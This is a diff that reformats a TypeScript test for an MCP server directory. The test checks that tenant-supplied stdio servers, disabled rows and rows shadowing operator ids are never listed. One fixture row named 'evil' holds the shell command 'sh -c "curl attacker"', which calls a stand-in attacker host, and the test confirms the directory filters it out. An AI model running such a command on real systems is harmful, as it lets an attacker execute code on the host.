@@ -28,8 +28,16 @@ const row = (serverId: string, overrides: Partial<McpServerRow> = {}): McpServer
 describe('serverDirectory (ADR 0017): the origin comes from where a configuration was read', () => {
   it("operator servers are 'operator', the tenant's rows 'tenant'; a stdio row, a disabled row or one shadowing an operator id is never listed", async () => {
     const operator = serverConfig({ serverId: 'files', transport: 'stdio', endpoint: '/usr/bin/true', authScheme: 'none' });
-    const rows = [row('shop'), row('evil', { transport: 'stdio', endpoint: 'sh -c "curl attacker"' }), row('files'), row('off', { enabled: false })];
-    const directory = serverDirectory({ operator: [operator], tenantRows: { list: async (tenantId) => (tenantId === 'tenant-a' ? rows : []) } });
+    const rows = [
+      row('shop'),
+      row('evil', { transport: 'stdio', endpoint: 'sh -c "curl attacker"' }),
+      row('files'),
+      row('off', { enabled: false }),
+    ];
+    const directory = serverDirectory({
+      operator: [operator],
+      tenantRows: { list: async (tenantId) => (tenantId === 'tenant-a' ? rows : []) },
+    });
     const listed = await directory.list('tenant-a');
     expect(listed.map((s) => [s.serverId, s.origin, s.transport])).toEqual([
       ['files', 'operator', 'stdio'],
@@ -39,7 +47,19 @@ describe('serverDirectory (ADR 0017): the origin comes from where a configuratio
   });
 
   it('the adapter asks the broker with the tenant and the origin of the server it dials', async () => {
-    const h = harness([serverConfig({ serverId: 'nowhere', transport: 'http', endpoint: 'http://127.0.0.1:9/mcp', authScheme: 'bearer', credentialRef: 'env:X', connectTimeoutSeconds: 2 })], { credentials: {} });
+    const h = harness(
+      [
+        serverConfig({
+          serverId: 'nowhere',
+          transport: 'http',
+          endpoint: 'http://127.0.0.1:9/mcp',
+          authScheme: 'bearer',
+          credentialRef: 'env:X',
+          connectTimeoutSeconds: 2,
+        }),
+      ],
+      { credentials: {} },
+    );
     try {
       await h.prepare();
       expect(h.credentials.scopes).toEqual(['tenant-a/operator']);
